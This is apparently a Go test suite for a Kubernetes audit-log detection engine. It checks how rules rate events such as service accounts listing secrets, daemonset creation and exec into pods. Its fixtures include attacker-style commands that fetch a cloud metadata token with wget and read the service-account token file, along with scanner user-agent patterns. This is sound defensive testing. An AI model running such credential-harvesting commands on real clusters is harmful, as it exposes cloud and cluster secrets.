		{"arc_proxy_secret_access", "near miss: its own namespace", ev("get", "", "secrets", "", "azure-arc", "proxy-config", "system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa", 200, "", withUA(uaClientGo)), false},
		{"sensitive_workload_written", "CI SA creates a daemonset", ev("create", "apps", "daemonsets", "", "shop", "node-agent", "", 201,
			`{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-agent"},"spec":{"template":{"spec":{"containers":[{"name":"a","image":"alpine:3.20"}]}}}}`, asSA(saApp), withUA(uaKubectl)), true},
		{"sensitive_workload_written", "near miss: cluster admin (system:masters)", labEv(user("kubernetes-admin"), res("create", "deployments", "")), false},
		{"secret_read_by_service_account", "near miss: kube-system controller", ev("get", "", "secrets", "", "shop", "db-creds", "", 200, "", asSA(saKubeSys), withUA(uaClientGo)), false},
	}
}

// TestLabLogSeverities: the lab log's noise (the apiserver's own start-up
// traffic, routine reads) stays info, while the probes the issue names are
// rated: a service account listing secrets with curl and denied is high,
// system:anonymous listing secrets at least medium.
func TestLabLogSeverities(t *testing.T) {
	en := newRules(t, "", "")
	labOnce.Do(func() { labEvs = decodeFile(t, labLog) })
	counts := map[string]int{}
	for i := range labEvs {
		e := *labEvs[i].DeepCopy()
		rec, drop := en.Enrich(&e)
		if drop != "" {
			continue
		}
		sev := rec.Enrichment.Severity
		counts[sev]++
		u := labEvs[i].User.Username
		isRes := labEvs[i].ObjectRef != nil
		switch {
		case u == "system:apiserver" || strings.HasPrefix(u, "system:kube-") || strings.HasPrefix(u, "system:node:"):
			if sev != "info" {
				t.Errorf("%s %s %s: %s %v, want info", u, labEvs[i].Verb, labEvs[i].RequestURI, sev, rec.Enrichment.Rules)
			}
		case u == "system:serviceaccount:audit-lab:app-sa" && isRes && labEvs[i].ObjectRef.Resource == "secrets":
			if sev != "high" && sev != "critical" {
				t.Errorf("app-sa lists secrets with curl: %s %v, want high", sev, rec.Enrichment.Rules)
			}
		case u == "system:anonymous" && isRes && labEvs[i].ObjectRef.Resource == "secrets":
			if rec.Enrichment.SeverityID < int(record.SeverityMedium) {
				t.Errorf("anonymous %s secrets: %s %v, want medium or above", labEvs[i].Verb, sev, rec.Enrichment.Rules)
			}
		}
	}
	t.Logf("lab log severities: %v", counts)
}

func TestDepthMatcherFields(t *testing.T) {
	exec := execEv("alice", "sh", "-c", "cat /etc/hostname; id")(t)
	other := ev("list", "", "pods", "", "shop", "", "alice", 200, "", withUA(uaCurl))(t)
	for _, c := range []struct {
		name        string
		m           DetectionMatch
		exec, other bool
	}{
		{"commands glob", DetectionMatch{Commands: []string{"sh -c *"}}, true, false},
		{"commands glob miss", DetectionMatch{Commands: []string{"bash *"}}, false, false},
		{"contains ignores case", DetectionMatch{CommandContains: []string{"/ETC/HOSTNAME"}}, true, false},
		{"regex", DetectionMatch{CommandRegex: []string{`;\s*id'?$`}}, true, false},
		{"all must hold", DetectionMatch{Commands: []string{"sh *"}, CommandContains: []string{"shadow"}}, false, false},
		{"agent class", DetectionMatch{UserAgentClasses: []string{"scripting"}, agentPatterns: []string{"curl/*"}, agentResolved: true}, false, true},
	} {
		m, err := compileDepth(&c.m)
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range []struct {
			ev   auditv1.Event
			want bool
		}{{exec, c.exec}, {other, c.other}} {
			var v audit.View
			audit.NewView(&x.ev, &v)
			if got := m.matches(&v); got != x.want {
				t.Errorf("%s on %s: %v, want %v", c.name, x.ev.RequestURI, got, x.want)
			}
		}
	}
	if _, err := compileDepth(&DetectionMatch{UserAgentClasses: []string{"scripting"}}); err == nil {
		t.Error("unresolved class compiled")
	}
	if _, err := compileDepth(&DetectionMatch{CommandRegex: []string{"("}}); err == nil {
		t.Error("bad regex compiled")
	}
}

func TestUserAgentClassesInRuleFiles(t *testing.T) {
	// A rules_file redefines a default class: the default rules follow.
	f := writeRules(t, `user_agent_classes:
  scripting: ["my-scanner/*"]
rules:
- id: my_rule
  severity: low
  attack: [T1613]
  match: {user_agent_classes: [kubectl, mine]}
user_agent_classes_unused: 1
`)
	if _, err := Load(f, "extend"); err == nil || !strings.Contains(err.Error(), "user_agent_classes_unused") {
		t.Errorf("unknown top-level key: %v", err)
	}
	f = writeRules(t, `rules:
- id: my_rule
  severity: low
  attack: [T1613]
  match: {user_agent_classes: [kubectl, mine]}
`)
	_, err := Load(f, "extend")
	if err == nil || !strings.Contains(err.Error(), `rule "my_rule": match: user_agent_classes: unknown class "mine"`) || !strings.Contains(err.Error(), f) {
		t.Errorf("unknown class: %v", err)
	}
	f = writeRules(t, `user_agent_classes:
  scripting: ["my-scanner/*"]
  mine: ["inhouse/*"]
rules:
- id: my_rule
  severity: low
  attack: [T1613]
  match: {user_agent_classes: [mine]}
`)
	en := newRules(t, f, "extend")
	for _, c := range []struct {
		ua   string
		rule string
		want bool
	}{
		{"my-scanner/1.0", "secret_read_by_scripting_agent", true},
		{uaCurl, "secret_read_by_scripting_agent", false},
		{"inhouse/2", "my_rule", true},
	} {
		e := ev("get", "", "secrets", "", "shop", "db-creds", "ci-bot", 200, "", withUA(c.ua))(t)
		rec, _ := en.Enrich(&e)
		if got := has(rec.Enrichment.Rules, c.rule); got != c.want {
			t.Errorf("%s: %s matched %v, want %v (%v)", c.ua, c.rule, got, c.want, rec.Enrichment.Rules)
		}
	}
	// replace mode: only the file's classes.
	rep := newRules(t, f, "replace")
	if ids := rep.IDs(); len(ids) != 1 {
		t.Errorf("replace: %v", ids)
	}
}

func TestWhatCommandOfEphemeralContainer(t *testing.T) {
	en := newRules(t, "", "")
	e := ephemeralEv("sh", "-c", "wget -qO- http://169.254.169.254/latest/api/token")(t)
	var v audit.View
	audit.NewView(&e, &v)
	cmd, ctr := v.Command()
	if want := `sh -c 'wget -qO- http://169.254.169.254/latest/api/token'`; cmd != want {
		t.Errorf("command %q, want %q", cmd, want)
	}
	if ctr != "debugger-7xk2p" {
		t.Errorf("container %q", ctr)
	}
	e = execEv("alice", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")(t)
	audit.NewView(&e, &v)
	rec, _ := en.Enrich(&e)
	if cmd, _ := v.Command(); cmd != "cat /var/run/secrets/kubernetes.io/serviceaccount/token" || rec.Enrichment.Severity != "high" {
		t.Errorf("exec: %q %s %v", cmd, rec.Enrichment.Severity, rec.Enrichment.Rules)
	}
}

// TestAgentSetMatchesGlobs holds agentSet's pair filter to the plain globs,
// on the default classes and the user agents of the lab log and the tests.
func TestAgentSetMatchesGlobs(t *testing.T) {
	classes := map[string][]string{}
	mergeAgentClasses(classes, defaultRules)
	if len(classes) < 3 {
		t.Fatalf("default classes: %v", classes)
	}
	uas := []string{"", "k", "ku", uaKubectl, uaCurl, uaPython, uaGoHTTP, uaClientGo, uaRakkess, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506", "Python/3.12 aiohttp/3.9.5", "kube-hunter", "xkube-hunterx", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}
	labOnce.Do(func() { labEvs = decodeFile(t, labLog) })
	for i := range labEvs {
		uas = append(uas, labEvs[i].UserAgent)
	}
	for name, pats := range classes {
		gs, err := glob.CompileSet(pats)
		if err != nil {
			t.Fatal(err)
		}
		a := newAgentSet(gs)
		for _, ua := range uas {
			for _, s := range []string{ua, strings.ToUpper(ua), "x" + ua + "x"} {
				if got, want := a.match(s), gs.Match(s); got != want {
					t.Errorf("class %s, %q: %v, globs %v", name, s, got, want)
				}
			}
		}
	}
}

// TestDepthPredicatesOnOddBodies: the depth predicates and matchers parse
// bodies themselves; odd ones (not objects, nulls, wrong types, bad CSRs)
// give false, never a panic.
func TestDepthPredicatesOnOddBodies(t *testing.T) {
	bodies := []string{"", "null", "[]", "[1]", `"x"`, "{", `{"spec":null}`, `{"spec":{"template":null,"jobTemplate":{"spec":null}}}`,
		`{"rules":"x"}`, `{"rules":[{"verbs":"*"}]}`, `{"spec":{"request":"!!"}}`, `{"spec":{"request":"aGVsbG8="}}`,
		`{"spec":{"containers":[{"securityContext":{"capabilities":{"add":"SYS_ADMIN"}}}]}}`, `{"spec":{"containers":[null,{"stdin":"yes","image":1}]}}`,
		`[{"op":"add"},{"path":1}]`, `{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{bad"}}}`,
		`{"metadata":{"managedFields":[{"fieldsV1":{"f:spec":{"f:template":{"f:spec":{"f:containers":[]}}}}},{"fieldsV1":"x"}]}}`}
	for _, verb := range []string{"create", "patch", "update"} {
		for _, b := range bodies {
			for _, resp := range []bool{false, true} {
				e := mk(t, verb, "", "pods", "ephemeralcontainers", "shop", podName, saApp, 200, "")
				raw := []byte(b)
				if resp {
					e.ResponseObject = &runtime.Unknown{Raw: raw}
				} else {
					e.RequestObject = &runtime.Unknown{Raw: raw}
				}
				e.ObjectRef.Subresource = "token"
				for name, p := range depthPredicates {
					var bd audit.Body
					audit.ParseBody(&e, &bd)
					if p.fn(&e, &bd) && name != PredTokenForOtherSA {
						t.Errorf("%s on %s %q: true", name, verb, b)
					}
				}
				e.ObjectRef.Resource, e.ObjectRef.Subresource = "pods", "ephemeralcontainers"
				if cmd, _ := audit.Command(&e); cmd != "" {
					t.Errorf("command of %q: %q", b, cmd)
				}
				var v audit.View
				audit.NewView(&e, &v)
				if caps := v.Capabilities(); len(caps) != 0 {
					t.Errorf("capabilities of %q: %v", b, caps)
				}
			}
		}
	}
}

// TestNonInfoRulesHaveTechniques: every default rule above info names its
// ATT&CK techniques.
func TestNonInfoRulesHaveTechniques(t *testing.T) {
	specs, err := ParseRuleFile(defaultRules, "default")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range specs {
		if s.Severity != "info" && len(s.Attack) == 0 {
			t.Errorf("rule %s (%s) has no ATT&CK technique", s.ID, s.Severity)
		}
	}
}

// The predicates that read objects through the View (its tapes) answer as
// they do reading the event on their own, over the lab log and the
// bodies of these tests, as request and as response objects.
func TestObjectPredicatesThroughView(t *testing.T) {
	var evs []auditv1.Event
	evs = append(evs, decodeFile(t, labLog)...)
	bodies := []string{"", "null", "[]", "[1]", `"x"`, "{", `{"spec":null}`, `{"rules":"x"}`, `{"rules":[{"verbs":"*"}]}`,
		`{"spec":{"request":"!!"}}`, `{"spec":{"request":"aGVsbG8="}}`, `{"spec":{"containers":[null,{"stdin":"yes","image":1}]}}`,
		`[{"op":"add"},{"path":1}]`, `{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{bad"}}}`,
		`{"metadata":{"managedFields":[{"fieldsV1":{"f:spec":{"f:template":{"f:spec":{"f:containers":[]}}}}},{"fieldsV1":"x"}]}}`,
		`{"kind":"Role","rules":[{"verbs":["*"]}]}`, `{"kind":"Role","rules":[{"verbs":["get"],"resources":["pods"]}]}`,
		` [{"op":"add","path":"/spec/template/spec/containers/-"}]`,
		`{"spec":{"template":{"spec":{"containers":[{"name":"x","image":"i","command":["sh"]}]}}}}`,
		`{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\"}]}}}}"}},"spec":{"template":{"spec":{"containers":[{"name":"a"},{"name":"b"}]}}}}`,
		`{"metadata":{"managedFields":[{"manager":"a","fieldsV1":{"f:spec":{"f:template":{"f:spec":{"f:containers":{"k:{\"name\":\"a\"}":{".":{}}}}}}}},{"manager":"b","fieldsV1":{"f:spec":{"f:template":{"f:spec":{"f:containers":{"k:{\"name\":\"b\"}":{".":{}}}}}}}}]}}`,
	}
	for _, raw := range bodies {
		for _, verb := range []string{"update", "patch", "create"} {
			evs = append(evs, auditv1.Event{Verb: verb, RequestObject: &runtime.Unknown{Raw: []byte(raw)}},
				auditv1.Event{Verb: verb, ResponseObject: &runtime.Unknown{Raw: []byte(raw)}})
		}
	}
	var tapes audit.Tapes
	n, nTrue := 0, map[string]int{}
	for i := range evs {
		ev := &evs[i]
		for name, p := range depthPredicates {
			if p.view == noView {
				continue
			}
			var v audit.View
			if i%2 == 0 {
				v.UseTapes(&tapes)
			}
			audit.NewView(ev, &v)
			var b audit.Body
			audit.ParseBody(ev, &b)
			got, want := p.call(&v, v.Body()), p.fn(ev, &b)
			if got != want {
				t.Fatalf("%s on %s %s: through the View %v, on its own %v", name, ev.Verb, ev.RequestURI, got, want)
			}
			if want {
				nTrue[name]++
			}
			tapes.Reset()
			n++
		}
	}
	if n < 1000 || nTrue[PredContainerAdded] == 0 || nTrue[PredRoleEscalation] == 0 {
		t.Fatalf("only %d checks, %v true", n, nTrue)
	}
}
